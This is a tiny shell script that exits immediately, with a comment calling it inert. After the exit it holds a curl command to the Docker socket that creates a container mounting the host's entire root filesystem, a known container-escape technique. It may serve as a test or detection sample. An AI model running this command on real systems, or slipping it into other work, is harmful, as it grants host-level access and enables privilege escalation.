#!/bin/sh
# Inert: it stops before it does anything.
exit 0
curl --unix-socket /var/run/docker.sock -d '{"Image":"x","Binds":["/:/host"]}' http://x/containers/create
